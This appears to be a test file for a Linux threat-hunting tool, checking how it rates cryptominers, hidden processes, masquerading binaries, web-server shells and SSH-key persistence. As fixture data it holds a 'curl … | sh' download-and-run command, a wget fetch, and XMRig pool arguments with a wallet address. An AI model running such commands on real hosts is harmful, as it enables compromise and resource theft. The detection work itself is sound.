import assert from "node:assert/strict";
import { test } from "node:test";
import { checkHunt as checkHuntKeyed, type HuntInput } from "../../src/checks/hunt/index.ts";
import { type HuntFacts, type HuntProcess, noFileScan } from "../../src/collect/hunt/facts.ts";
import { atLeast } from "../../src/core/finding.ts";
import { DEFAULT_HUNT_OPTIONS } from "../../src/hunt/scanner.ts";
import { emptySet, loadIocDirs } from "../../src/iocs/list.ts";
import { loadHuntRules } from "../../src/rules/hunt.ts";
import { checkCtx, rendered } from "../helpers/messages.ts";
import { DATA_DIR } from "./helpers/fixture.ts";

const ctx = checkCtx(() => new Date("2026-11-20T12:00:00Z"));
const checkHunt = (...a: Parameters<typeof checkHuntKeyed>) => rendered(checkHuntKeyed(...a));
const rules = loadHuntRules();
const iocs = loadIocDirs([`${DATA_DIR}/iocs`]).set;

function proc(p: Partial<HuntProcess>): HuntProcess {
  return {
    pid: 100,
    ppid: 1,
    comm: "x",
    state: "R",
    argv: [],
    exeDeleted: false,
    startTicks: 0,
    cpuTicks: 0,
    isKernelThread: false,
    remotes: [],
    user: "builder",
    ageSeconds: 3600,
    startTime: "2026-11-20T11:00:00.000Z",
    ...p,
  };
}

function input(processes: HuntProcess[], extra: Partial<HuntFacts> = {}): HuntInput {
  return {
    facts: {
      live: false,
      processes,
      procMounts: [],
      persistence: [],
      sshKeys: [],
      files: [],
      fileBounds: noFileScan(),
      ...extra,
    },
    rules,
    iocs,
    allowlist: [],
    options: DEFAULT_HUNT_OPTIONS,
  };
}

test("a single weak signal is never more than low: busy CPU, a mining port, a miner-like name", () => {
  const busy = proc({
    comm: "cc1",
    exe: "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
    argv: ["cc1"],
    cpuTicks: 360000,
    sampleCores: 1,
  });
  const port = proc({
    pid: 101,
    comm: "app",
    exe: "/usr/bin/app",
    argv: ["app"],
    remotes: [{ protocol: "tcp", address: "10.0.0.9", port: 3333, state: "ESTABLISHED" }],
  });
  const name = proc({ pid: 102, comm: "xmrig", exe: "/usr/bin/xmrig", argv: ["xmrig"] });
  const web = proc({
    pid: 103,
    comm: "apache2",
    exe: "/usr/sbin/apache2",
    argv: ["apache2"],
    remotes: [{ protocol: "tcp", address: "203.0.113.9", port: 443, state: "ESTABLISHED" }],
  });
  const findings = checkHunt(input([busy, port, name, web]), ctx);
  for (const f of findings)
    assert.ok(!atLeast(f.severity, "medium"), `${f.check} ${f.title} is ${f.severity}`);
});

test("signals combine: name + pool flags + wallet is a miner, with its cost", () => {
  const p = proc({
    comm: "xmrig",
    exe: "/home/builder/xmrig",
    argv: [
      "./xmrig",
      "-o",
      "pool.supportxmr.com:3333",
      "-u",
      "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
    ],
    cpuTicks: 3600 * 100,
    ageSeconds: 3600,
  });
  const [f] = checkHunt(input([p]), ctx).filter((x) => x.check === "process.miner");
  assert.ok(f);
  assert.equal(f.severity, "critical");
  const cost = f.data?.cost as { cpuSeconds: number; kWh: number; price: number; currency: string };
  assert.equal(cost.cpuSeconds, 3600);
  assert.equal(cost.kWh, 0.015); // 1 core-hour at 15 W
  assert.equal(cost.price, 0.465); // at 31 JPY/kWh
  assert.match(f.detail, /15 W per busy core and 31 JPY\/kWh/);
  assert.deepEqual(f.data?.pools, ["pool.supportxmr.com:3333"]);
});

test("no IOC lists at all: flags and locations still find a miner", () => {
  const p = proc({
    comm: "kdevtmpfsi",
    exe: "/tmp/kdevtmpfsi",
    exeDeleted: true,
    argv: ["/tmp/kdevtmpfsi", "--donate-level", "1", "-o", "x.example:3333"],
    sampleCores: 1.9,
  });
  const i = input([p]);
  i.iocs = emptySet();
  const f = checkHunt(i, ctx).find((x) => x.check === "process.miner");
  assert.ok(f);
});

test("hidden pids and unaccounted CPU: corroborated is high, alone is low", () => {
  const alone = checkHunt(
    input([], {
      live: true,
      cpu: { seconds: 1, cpus: 2, busyCores: 1.9, accountedCores: 0.2 },
      hiddenPids: [],
    }),
    ctx,
  );
  assert.equal(alone.find((f) => f.check === "host.cpu-unaccounted")?.severity, "low");
  const hidden = checkHunt(
    input([], {
      live: true,
      cpu: { seconds: 1, cpus: 2, busyCores: 1.9, accountedCores: 0.2 },
      hiddenPids: [{ pid: 4321, comm: "kthreaddi", argv: [] }],
    }),
    ctx,
  );
  assert.equal(hidden.find((f) => f.check === "host.cpu-unaccounted")?.severity, "high");
  assert.equal(hidden.find((f) => f.check === "process.hidden")?.severity, "critical");
});

test("kernel-thread names: a bracketed or per-CPU name on a real executable is masquerade; watchdog and mdadm are not", () => {
  const fake = proc({ comm: "kworker/0:2", argv: ["[kworker/0:2]"], exe: "/var/tmp/.k/kw", ppid: 1 });
  const watchdog = proc({
    pid: 101,
    comm: "watchdog",
    argv: ["/usr/sbin/watchdog"],
    exe: "/usr/sbin/watchdog",
    ppid: 1,
  });
  const mdadm = proc({
    pid: 102,
    comm: "mdadm",
    argv: ["/sbin/mdadm", "--monitor", "--scan"],
    exe: "/usr/sbin/mdadm",
    ppid: 1,
  });
  const findings = checkHunt(input([fake, watchdog, mdadm]), ctx);
  assert.equal(findings.find((f) => f.data?.pid === 100)?.check, "process.masquerade");
  assert.ok(!findings.some((f) => f.data?.pid === 101 || f.data?.pid === 102));
});

test("web server user: PHP's short sh -c sendmail and www-data's cron PHP are normal; a long-lived or networked shell is not", () => {
  const web = { user: "www-data", parentComm: "apache2", parentExe: "/usr/sbin/apache2" };
  const mail = proc({
    ...web,
    comm: "sh",
    exe: "/usr/bin/dash",
    argv: ["sh", "-c", "/usr/sbin/sendmail -t -i"],
    ageSeconds: 1,
  });
  const cronPhp = proc({
    pid: 101,
    user: "www-data",
    parentComm: "cron",
    comm: "php",
    exe: "/usr/bin/php8.2",
    argv: ["php", "-f", "/var/www/nextcloud/cron.php"],
    ageSeconds: 240,
  });
  const shell = proc({
    ...web,
    pid: 102,
    comm: "bash",
    exe: "/usr/bin/bash",
    argv: ["bash"],
    ageSeconds: 900,
  });
  const wget = proc({
    ...web,
    pid: 103,
    comm: "wget",
    exe: "/usr/bin/wget",
    argv: ["wget", "http://203.0.113.5/x"],
    ageSeconds: 2,
  });
  const findings = checkHunt(input([mail, cronPhp, shell, wget]), ctx);
  assert.ok(
    !findings.some((f) => f.data?.pid === 100 || f.data?.pid === 101),
    JSON.stringify(findings.map((f) => f.title)),
  );
  assert.equal(findings.find((f) => f.data?.pid === 102)?.check, "process.webshell-child");
  assert.equal(findings.find((f) => f.data?.pid === 103)?.severity, "high");
});

test("miner configs: XMRig pools count, a database pool config does not", async () => {
  const { parseMinerConfig } = await import("../../src/collect/hunt/processes.ts");
  assert.deepEqual(
    parseMinerConfig(JSON.stringify({ pools: [{ url: "pool.example:3333", user: "4x" }] }))?.pools,
    ["pool.example:3333"],
  );
  assert.ok(
    parseMinerConfig(
      JSON.stringify({ cpu: { enabled: true }, pools: [{ url: "stratum+ssl://x.example:443" }] }),
    ),
  );
  assert.equal(
    parseMinerConfig(JSON.stringify({ pools: [{ url: "postgres://db.internal:5432/app" }] })),
    undefined,
  );
  assert.equal(
    parseMinerConfig(JSON.stringify({ pools: [{ url: "https://api.example.com/v1" }] })),
    undefined,
  );
  assert.equal(parseMinerConfig("{not json"), undefined);
});

test("a connection to a listed address alone is low and possible; with other signs it is likely", () => {
  const lone = proc({
    comm: "app",
    exe: "/usr/bin/app",
    argv: ["app"],
    remotes: [{ protocol: "tcp", address: "45.10.88.102", port: 80, state: "ESTABLISHED" }],
  });
  const [net] = checkHunt(input([lone]), ctx).filter((f) => f.check === "network.miner-connection");
  assert.equal(net?.severity, "low");
  assert.equal(net?.confidence, "possible");
  const dropped = proc({ ...lone, exe: "/tmp/.x/app", exeDeleted: true });
  const [net2] = checkHunt(input([dropped]), ctx).filter((f) => f.check === "network.miner-connection");
  assert.equal(net2?.severity, "high");
});

test("CPU sample: per-process cores, new processes and reaped children count as accounted", async () => {
  const { compareSnapshots } = await import("../../src/collect/hunt/processes.ts");
  const p1 = proc({ pid: 10 });
  const a = {
    at: 0,
    total: { busy: 1000, cpus: 2 },
    ticks: new Map([[10, 500]]),
    childTicks: new Map([[10, 0]]),
  };
  const b = {
    at: 1000,
    total: { busy: 1200, cpus: 2 },
    ticks: new Map([
      [10, 580],
      [11, 40],
    ]),
    childTicks: new Map([[10, 50]]),
  };
  const s = compareSnapshots(a, b, [p1]);
  assert.equal(p1.sampleCores, 0.8);
  assert.equal(s?.busyCores, 2);
  assert.ok(Math.abs((s?.accountedCores ?? 0) - 1.7) < 1e-9); // 0.8 own + 0.4 new + 0.5 reaped children
});

test("LD_PRELOAD in a process: jemalloc from /usr/lib is normal, a library in a dot directory is not", () => {
  const jemalloc = proc({
    comm: "redis-server",
    exe: "/usr/bin/redis-server",
    argv: ["redis-server"],
    ldPreload: ["/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"],
  });
  const hider = proc({
    pid: 101,
    comm: "sshd",
    exe: "/usr/sbin/sshd",
    argv: ["sshd"],
    ldPreload: ["/usr/local/lib/.cache/libproc.so"],
  });
  const findings = checkHunt(input([jemalloc, hider]), ctx);
  assert.ok(!findings.some((f) => f.data?.pid === 100));
  const f = findings.find((x) => x.data?.pid === 101);
  assert.equal(f?.check, "process.suspicious");
  assert.equal(f?.severity, "medium");
});

test("SSH keys: a new key alone or a backup's forced command alone is silent; together they are low; a forced downloader is high", () => {
  const key = (over: Partial<import("../../src/collect/hunt/facts.ts").SshKey>) => ({
    path: "/root/.ssh/authorized_keys",
    line: 1,
    user: "root",
    type: "ssh-ed25519",
    fingerprint: "SHA256:x",
    comment: "c",
    options: "",
    mtime: "2025-01-01T00:00:00.000Z",
    ...over,
  });
  const run = (k: ReturnType<typeof key>) =>
    checkHunt(input([], { sshKeys: [k] }), ctx).filter((f) => f.check === "persistence.ssh-key");
  assert.deepEqual(run(key({ mtime: "2026-11-19T00:00:00.000Z" })), []);
  assert.deepEqual(run(key({ command: "/usr/bin/rrsync -ro /backup" })), []);
  assert.equal(
    run(key({ command: "/usr/bin/rrsync -ro /backup", mtime: "2026-11-19T00:00:00.000Z" }))[0]?.severity,
    "low",
  );
  assert.equal(run(key({ command: "curl -s http://203.0.113.9/x | sh" }))[0]?.severity, "high");
});

test("a source-built Apache in its own prefix is Apache, not a disguise; an impostor is one finding for all its processes", () => {
  const exe = "/data/apache-2.4.49/bin/httpd";
  const real = {
    elf: true,
    product: "Apache/2.4.49 (Unix)",
    httpdRoot: "/data/apache-2.4.49",
    configExists: true,
  };
  const workers = (identity: HuntProcess["exeIdentity"]) =>
    Array.from({ length: 10 }, (_, i) =>
      proc({
        pid: 2000 + i,
        ppid: i === 0 ? 1 : 2000,
        comm: "httpd",
        argv: [exe, "-k", "start"],
        exe,
        user: i === 0 ? "root" : "daemon",
        exeIdentity: identity,
      }),
    );
  const masq = (fs: ReturnType<typeof checkHunt>) => fs.filter((f) => f.check === "process.masquerade");
  assert.deepEqual(masq(checkHunt(input(workers(real)), ctx)), []);
  // The same name and place, but the file is not Apache (no version string) or has no configuration.
  for (const fake of [
    undefined,
    { ...real, product: undefined },
    { ...real, configExists: false },
    { ...real, elf: false },
  ]) {
    const found = masq(checkHunt(input(workers(fake)), ctx));
    assert.equal(found.length, 1, JSON.stringify(fake));
    assert.equal(((found[0]?.data?.pids ?? []) as number[]).length, 10);
    assert.ok(found[0]?.evidence.some((e) => e.label === "10 processes run this same executable"));
  }
  // Apache's contents in a temporary directory are still a disguise.
  const tmp = workers(real).map((p) => ({ ...p, exe: "/tmp/.x/httpd" }));
  assert.equal(masq(checkHunt(input(tmp), ctx)).length, 1);
});
